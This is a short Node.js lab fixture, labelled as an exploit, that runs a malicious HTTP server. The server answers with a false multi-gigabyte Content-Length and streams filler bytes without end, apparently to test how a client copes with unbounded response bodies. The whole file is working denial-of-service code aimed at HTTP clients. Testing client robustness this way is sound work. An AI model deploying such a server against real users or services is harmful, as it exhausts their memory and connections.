// exploit: answers with a body that never ends
// kind: lab
// exchange: none timed-out
// outcome: finished
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.write('HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n')
  const more = () => { while (!socket.destroyed && socket.write(Buffer.alloc(65536, 'x'))) continue }
  socket.on('drain', more)
  more()
}).listen(process.env.PORT)
